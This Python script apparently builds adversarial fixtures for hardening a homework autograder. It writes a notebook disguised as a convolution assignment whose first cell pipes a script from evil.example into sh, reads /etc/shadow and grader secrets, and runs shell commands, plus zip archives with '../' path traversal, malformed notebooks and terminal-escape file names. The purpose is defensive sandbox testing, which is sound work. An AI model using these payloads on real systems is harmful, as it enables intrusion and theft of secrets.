"""Writes the notebook and zip attacks beside this file from honest_conv_ops.py; run once
(`python make_archives.py`) and commit what it writes."""

import json
import stat
import struct
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
DATE = (2024, 9, 2, 9, 0, 0)  # fixed, so that running the script again writes byte-identical files
HONEST = (HERE / "honest_conv_ops.py").read_text()

MALICIOUS_CELL = '''\
!curl -s http://evil.example/payload.sh | sh
%env GRADER_SECRET=stolen
import os
import socket
import subprocess

MARKER = "ADVERSARIAL_notebook_malicious"
for path in ("/work/main/var/secret", "/work/main/var/grades.db", "/etc/shadow"):
    try:
        print("READ", path, open(path, "rb").read(100))
    except OSError as error:
        print("BLOCKED", path, type(error).__name__)
for path in ("/work/main/ADVERSARIAL_notebook_malicious", "/tmp/ADVERSARIAL_notebook_malicious"):
    try:
        with open(path, "w") as file:
            file.write(MARKER)
        print("WROTE", path)
    except OSError as error:
        print("BLOCKED", path, type(error).__name__)
print("SHELL", subprocess.run("id; cat /etc/shadow; touch /work/main/ADVERSARIAL_notebook_shell",
                              shell=True, capture_output=True, text=True))
try:
    socket.create_connection(("1.1.1.1", 80), timeout=2)
    print("CONNECTED internet")
except OSError as error:
    print("BLOCKED internet", type(error).__name__)
'''


def code_cell(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}


def notebook() -> None:
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": "# Homework 1: convolution in NumPy"},
        code_cell(MALICIOUS_CELL),
        code_cell(HONEST),
    ]
    document = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
    (HERE / "notebook_malicious.ipynb").write_text(json.dumps(document, indent=1) + "\n")


def entry(name: str) -> zipfile.ZipInfo:
    # ZipInfo keeps the name as given; ZipFile.write would strip the leading "/" and "../".
    info = zipfile.ZipInfo(name, date_time=DATE)
    info.create_system = 3
    info.external_attr = (stat.S_IFREG | 0o644) << 16
    return info


def zip_escape() -> None:
    payload = b'MARKER = "ADVERSARIAL_zip_escape"\n'
    with zipfile.ZipFile(HERE / "zip_escape.zip", "w") as archive:
        archive.writestr(entry("hw1/submission.py"), HONEST.encode())
        archive.writestr(entry("hw1/../../ADVERSARIAL_zip_escape.py"), payload)
        archive.writestr(entry("../../../../../../tmp/ADVERSARIAL_zip_escape.py"), payload)
        archive.writestr(entry("hw1/sub/../../../../../../work/main/ADVERSARIAL_zip_escape.py"), payload)


def hostile_notebooks() -> None:
    """Notebooks json.loads chokes on or reads into what no Jupyter writes; the loader raised other
    errors than its own for each, and the batch stopped with a grader error."""
    cells = [code_cell('MARKER = "ADVERSARIAL_@name@"\n'), code_cell(HONEST)]
    document = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})
    deep = document.replace('"metadata": {}, "cells"', '"metadata": {"x": ' + "[" * 50_000 + "]" * 50_000 + '}, "cells"')
    (HERE / "notebook_deep_json.ipynb").write_text(deep.replace("@name@", "notebook_deep_json"))
    huge = document.replace('"nbformat": 4', '"nbformat": 4, "execution_count": ' + "9" * 5000, 1)
    (HERE / "notebook_huge_number.ipynb").write_text(huge.replace("@name@", "notebook_huge_number"))
    surrogate = json.loads(document.replace("@name@", "notebook_lone_surrogate"))
    surrogate["cells"].insert(1, code_cell('NOTE = "\ud800 a lone surrogate, which UTF-8 cannot encode"\n'))
    (HERE / "notebook_lone_surrogate.ipynb").write_text(json.dumps(surrogate))


def hostile_zips() -> None:
    """Zips zipfile itself refuses with NotImplementedError or UnicodeDecodeError, and a zip whose
    file names would clear the instructor's terminal."""
    marked = HONEST.replace('MARKER = "ADVERSARIAL_honest_conv_ops"', 'MARKER = "ADVERSARIAL_@name@"')
    version = entry("hw1/solution.py")
    version.extract_version = 74  # a zip version zipfile does not read
    with zipfile.ZipFile(HERE / "zip_version.zip", "w") as archive:
        archive.writestr(version, marked.replace("@name@", "zip_version").encode())
    with zipfile.ZipFile(HERE / "zip_bad_local_header.zip", "w") as archive:
        archive.writestr(entry("hw1/solutionX.py"), marked.replace("@name@", "zip_bad_local_header").encode())
    data = (HERE / "zip_bad_local_header.zip").read_bytes()
    # The UTF-8 flag in the local header only, over a name byte that is not UTF-8.
    flags = struct.unpack_from("<H", data, 6)[0] | 0x800
    data = data[:6] + struct.pack("<H", flags) + data[8:]
    (HERE / "zip_bad_local_header.zip").write_bytes(data.replace(b"solutionX.py", b"solution\xe8.py", 1))
    with zipfile.ZipFile(HERE / "zip_control_names.zip", "w") as archive:
        for name in ("\x1b[2J\x1b[Hconv_ops 30 of 30.py", "\x1b]0;graded\x07b.py"):
            archive.writestr(entry(name), marked.replace("@name@", "zip_control_names").encode())


if __name__ == "__main__":
    notebook()
    zip_escape()
    hostile_notebooks()
    hostile_zips()
